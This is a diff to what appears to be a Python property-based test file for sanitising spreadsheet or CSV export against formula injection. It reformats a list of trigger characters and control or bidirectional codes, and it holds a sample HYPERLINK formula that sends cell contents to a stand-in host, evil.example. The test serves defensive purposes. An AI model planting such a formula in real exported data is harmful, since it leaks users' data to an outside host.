@@ -18,8 +18,24 @@ EVALUATED = set("=+-@\t\r＝＋－＠")
 CONTROL = {chr(c) for c in [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)]}
 BIDI = {"\u061c", "\u200e", "\u200f", *map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A))}
 NASTY = st.sampled_from(
-    ["=", "+", "-", "@", "\t", "\r", "\n", "\x1b[2J", "\x07", "\u202e", "\u2066", "＝", " =", "\x85"]
-    + ['"', ","]
+    [
+        "=",
+        "+",
+        "-",
+        "@",
+        "\t",
+        "\r",
+        "\n",
+        "\x1b[2J",
+        "\x07",
+        "\u202e",
+        "\u2066",
+        "＝",
+        "\x85",
+        '"',
+        ",",
+        " =",
+    ]
 )
 TEXT = st.lists(st.one_of(NASTY, st.text(max_size=6)), max_size=6).map("".join)
 FORMULA = '=HYPERLINK("http://evil.example/?"&D2&D3&D4,"詳しくはこちら")'
